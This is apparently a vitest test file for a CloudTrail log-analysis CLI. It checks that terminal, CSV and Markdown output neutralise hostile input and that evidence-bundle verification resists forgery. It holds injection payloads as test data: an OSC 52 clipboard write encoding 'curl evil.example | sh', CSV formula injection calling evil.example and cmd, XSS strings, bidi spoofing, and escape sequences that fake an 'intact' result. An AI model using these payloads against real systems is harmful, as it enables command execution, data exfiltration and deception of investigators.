/**
 * Hostile input: log fields, file names and evidence bundles are written by whoever
 * produced them. Each case asserts what the user sees: the bytes on stdout and stderr,
 * the exit code and the files left on disk.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { cli } from './support/cli.js';
import { tempDir } from './support/harness.js';
import { writeRecordsLake } from '../src/lake/records-lake.js';
import { sha256 } from '../src/reports/hash.js';
import { escapeTerminal, safeStderr } from '../src/format/escape.js';
import { csvCell } from '../src/format/csv-safe.js';
import { mdCell } from '../src/format/markdown-escape.js';
import { formatCsv, formatMarkdown, formatTable } from '../src/format/format.js';
import { FIXTURE_PERIOD, fixtureCloudTrail, fixtureFlows, writeFixtureReport } from './report-fixture.js';

/** Anything a terminal would act on: C0 (but the line feeds casebook writes), DEL, C1, separators, bidi controls. */
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

const PAYLOADS = {
  osc52: '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07',
  title: '\x1b]0;pwned\x07',
  link: '\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\',
  overwrite: 'harmless\rbundle is intact',
  csi: '\x1b[2J\x1b[1;1H',
  c1: '\u009b31mred',
  bidi: 'user\u202etxt.exe',
  separators: 'a\u2028b\u2029c',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  plus: "+cmd|'/C calc'!A0",
  at: "@SUM(1+1)*cmd|'/C calc'!A0",
  tab: '\t=1+1',
  html: '<img src=x onerror=alert(1)>&amp;',
  markdownRow: 'x | y\r| injected | row',
  backtick: '`code` [link](javascript:alert(1))',
};
const HOSTILE = Object.values(PAYLOADS).join(' ');

describe('terminal, CSV and Markdown escaping (unit)', () => {
  it('shows every control character as a visible escape', () => {
    expect(escapeTerminal('a\x1b[31mb\nc\rd\te\x7f\x9b\u2028\u202e\u2066')).toBe('a\\x1b[31mb\\nc\\rd\\te\\x7f\\x9b\\u2028\\u202e\\u2066');
    expect(escapeTerminal('plain ascii, ünïcødé, 日本')).toBe('plain ascii, ünïcødé, 日本');
    expect(RAW_CONTROL.test(escapeTerminal(HOSTILE))).toBe(false);
    // stderr keeps its line breaks and casebook's own clear-line sequence, nothing else.
    expect(safeStderr('\r\x1b[2Kstate\x1b]0;t\x07\n')).toBe('\r\x1b[2Kstate\\x1b]0;t\\x07\n');
  });

  it('neutralises CSV formulas but keeps numbers numbers', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+1 555')).toBe("'+1 555");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe("'\r=1");
    expect(csvCell('-5')).toBe('-5');
    expect(csvCell('-1.5e3')).toBe('-1.5e3');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(null)).toBe('');
    expect(csvCell({ a: '=1' })).toBe('{"a":"=1"}');
    expect(csvCell('a=1')).toBe('a=1');
  });

  it('escapes HTML, pipes, backticks and line breaks in Markdown cells', () => {
    expect(mdCell('<b>&</b>')).toBe('&lt;b&gt;&amp;&lt;/b&gt;');
    expect(mdCell('a|b`c`[d]')).toBe('a\\|b\\`c\\`\\[d\\]');
    expect(mdCell('one\rtwo\r\nthree\nfour')).toBe('one<br>two<br>three<br>four');
    expect(mdCell('\x1b[2J')).toBe('\\x1b\\[2J');
  });

  it('formats one hostile row safely in every human format', () => {
    const result = { columns: [{ name: 'v', type: 'varchar' }], rows: [{ v: HOSTILE }], stats: { engine: 'test', elapsedMs: 0, rows: 1 } };
    expect(RAW_CONTROL.test(formatTable(result, { width: 10_000 }))).toBe(false);
    const md = formatMarkdown(result);
    expect(md.split('\n').filter(Boolean)).toHaveLength(3);
    expect(md).not.toMatch(/<img|<script/);
    expect(RAW_CONTROL.test(md)).toBe(false);
    const csv = formatCsv({ ...result, rows: Object.values(PAYLOADS).map((v) => ({ v })) });
    const cells = csv.split('\n').slice(1).filter(Boolean);
    for (const line of cells) expect(line).not.toMatch(/^"?[=+@\t-]/);
  });
});

describe('hostile log records through the CLI', () => {
  const tmp = tempDir('casebook-hostile-');
  const lake = join(tmp.dir, 'lake');
  const base = {
    eventVersion: '1.09',
    eventSource: 'cloudtrail.amazonaws.com',
    awsRegion: 'us-east-1',
    eventType: 'AwsApiCall',
    recipientAccountId: '111122223333',
    readOnly: false,
    responseElements: null,
  };
  const attacker = {
    type: 'IAMUser',
    principalId: 'AIDAX',
    arn: `arn:aws:iam::111122223333:user/${PAYLOADS.bidi}`,
    accountId: '111122223333',
    userName: PAYLOADS.bidi,
  };
  const records = Object.entries(PAYLOADS).map(([key, payload], i) => ({
    ...base,
    userIdentity: attacker,
    eventTime: `2024-03-02T10:${String(i).padStart(2, '0')}:00Z`,
    eventName: 'StopLogging',
    sourceIPAddress: '203.0.113.66',
    userAgent: payload,
    requestParameters: { name: payload },
    eventID: `h0000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
    errorMessage: key,
  }));
  const run = (format: string) =>
    cli([
      'run',
      'trail-tampering',
      '--lake',
      lake,
      '--since',
      '2024-03-01',
      '--until',
      '2024-03-04',
      '--format',
      format,
      '--include-failed',
    ]);

  beforeAll(() => writeRecordsLake(lake, { cloudtrail: records }));
  afterAll(() => tmp.cleanup());

  it('--format table shows escapes, never a control sequence', async () => {
    const r = await run('table');
    expect(r.code, r.stderr).toBe(0);
    expect(RAW_CONTROL.test(r.stdout)).toBe(false);
    expect(RAW_CONTROL.test(r.stderr)).toBe(false);
    expect(r.stdout).toContain('\\x1b]52;c;');
    expect(r.stdout).toContain('\\u202e');
    expect(r.stdout).toContain('harmless\\rbundle is intact');
  });

  it('--format csv neutralises formulas, --format json keeps the raw values', async () => {
    const csv = await run('csv');
    expect(csv.code, csv.stderr).toBe(0);
    expect(csv.stdout).toContain(`'${PAYLOADS.formula.replace(/"/g, '""')}`);
    expect(csv.stdout).toContain(`'${PAYLOADS.at}`);
    expect(csv.stdout).toContain(`'${PAYLOADS.plus}`);
    expect(csv.stdout).toMatch(/,'\t=1\+1,/);
    // A bare CR inside a cell is quoted, so no reader splits the row.
    expect(csv.stdout).toContain(',"harmless\rbundle is intact",');
    const json = await run('json');
    const rows = JSON.parse(json.stdout) as { useragent: string }[];
    expect(rows.map((r) => r.useragent).sort()).toEqual(Object.values(PAYLOADS).sort());
  });

  it('--format markdown keeps one line per row and no live HTML', async () => {
    const r = await run('markdown');
    expect(r.code, r.stderr).toBe(0);
    const lines = r.stdout.split('\n').filter(Boolean);
    expect(lines).toHaveLength(2 + records.length);
    for (const l of lines) expect(l).toMatch(/^\| .* \|$/);
    expect(r.stdout).not.toContain('<img');
    expect(r.stdout).toContain('&lt;img src=x onerror=alert(1)&gt;&amp;amp;');
    expect(RAW_CONTROL.test(r.stdout)).toBe(false);
  });

  it('an error quoting a hostile file name reaches stderr escaped, on one line', async () => {
    const r = await cli([
      'run',
      'trail-tampering',
      '--lake',
      join(tmp.dir, 'no\x1b]0;title\x07lake'),
      '--since',
      '2024-03-01',
      '--until',
      '2024-03-02',
    ]);
    expect(r.code).toBe(2); // a missing lake directory is a usage mistake
    expect(r.stderr).toContain('no\\x1b]0;title\\x07lake');
    expect(RAW_CONTROL.test(r.stderr)).toBe(false);
    expect(r.stderr.trimEnd().split('\n')).toHaveLength(1);
  });
});

describe('forged evidence bundles', () => {
  const tmp = tempDir('casebook-forged-');
  const lake = join(tmp.dir, 'lake');
  const original = join(tmp.dir, 'bundle');
  let recorded = '';
  let n = 0;
  const copy = () => {
    const dir = join(tmp.dir, `copy-${++n}`);
    cpSync(original, dir, { recursive: true });
    return dir;
  };

  beforeAll(async () => {
    writeRecordsLake(lake, { cloudtrail: fixtureCloudTrail(), vpc_flow_logs: fixtureFlows() });
    const report = writeFixtureReport(join(tmp.dir, 'defs'));
    const r = await cli(['report', report, '--period', FIXTURE_PERIOD, '--out', original, '--lake', lake, '--quiet', '--allow-partial']);
    if (r.code !== 0) throw new Error(r.stderr);
    recorded = /manifest\.json SHA-256 ([0-9a-f]{64})/.exec(r.stdout)![1]!;
  });
  afterAll(() => tmp.cleanup());

  /** Remove rows from a section CSV, rewrite every hash consistently, and hide it behind an escape sequence in report.name. */
  function forge(dir: string): void {
    const csvPath = 'sections/01-trail-tampering.csv';
    const csv = readFileSync(join(dir, csvPath), 'utf8').split('\n');
    writeFileSync(join(dir, csvPath), [...csv.slice(0, 2), ...csv.slice(-1)].join('\n'));
    const manifest = JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));
    const text = readFileSync(join(dir, csvPath));
    manifest.files[csvPath] = { sha256: sha256(text), bytes: text.length };
    // Fake "intact" output drawn over the real verdict: cursor up, clear line, the original hash.
    manifest.report.name = `fixture-report\x1b[2K\r\x1b[1A\x1b[2Kmanifest.json SHA-256 ${recorded}\n\u202e`;
    const manifestText = `${JSON.stringify(manifest, null, 2)}\n`;
    writeFileSync(join(dir, 'manifest.json'), manifestText);
    const sums = [...Object.keys(manifest.files), 'manifest.json']
      .sort()
      .map((p) => `${p === 'manifest.json' ? sha256(manifestText) : manifest.files[p].sha256}  ${p}\n`)
      .join('');
    writeFileSync(join(dir, 'SHA256SUMS'), sums);
  }

  it('verify prints no raw escape from the manifest, and --expect-sha256 with the recorded hash fails', async () => {
    const dir = copy();
    forge(dir);
    const plain = await cli(['verify', dir]);
    // Internally consistent, so the files match; but nothing on screen is raw.
    expect(plain.code).toBe(0);
    expect(RAW_CONTROL.test(plain.stdout)).toBe(false);
    expect(plain.stdout).toContain('report fixture-report\\x1b[2K\\r\\x1b[1A\\x1b[2Kmanifest.json SHA-256');
    expect(plain.stdout).toContain('\\n\\u202e, period');
    const shown = /^manifest\.json SHA-256 ([0-9a-f]{64})$/m.exec(plain.stdout)![1];
    expect(shown).not.toBe(recorded);

    const expecting = await cli(['verify', dir, '--expect-sha256', recorded]);
    expect(expecting.code).toBe(1);
    expect(expecting.stderr).toBe(
      `casebook: bundle ${dir} is NOT the recorded one: its manifest.json SHA-256 is ${shown}, not the expected ${recorded}\n`,
    );
    expect(expecting.stdout).not.toContain('is intact');
  });

  it('--expect-sha256 passes the untouched bundle, and refuses a malformed hash', async () => {
    const ok = await cli(['verify', original, '--expect-sha256', recorded.toUpperCase()]);
    expect(ok.code, ok.stderr).toBe(0);
    expect(ok.stdout).toMatch(
      /is intact: 16 files match the manifest, and manifest\.json has the expected SHA-256 \(report fixture-report/,
    );
    const bad = await cli(['verify', original, '--expect-sha256', 'abc']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toBe('casebook: --expect-sha256 "abc" is not a SHA-256 (64 hexadecimal digits)\n');
  });

  it('file names in the bundle are shown escaped', async () => {
    const dir = copy();
    writeFileSync(join(dir, 'notes\x1b]0;t\x07\u202e.txt'), 'x');
    const r = await cli(['verify', dir, '--quiet']);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('ADDED    notes\\x1b]0;t\\x07\\u202e.txt');
    expect(RAW_CONTROL.test(r.stdout + r.stderr)).toBe(false);
  });

  it('a non-JSON manifest gives one line without echoing its text', async () => {
    const dir = copy();
    writeFileSync(join(dir, 'manifest.json'), 'SECRET\x1b]0;t\x07 not json');
    const r = await cli(['verify', dir]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(
      /^casebook: .*manifest\.json is not valid JSON( \(at position \d+\))?: the manifest is damaged, so the bundle cannot be verified\n$/,
    );
    expect(r.stderr).not.toContain('SECRET');
  });
});
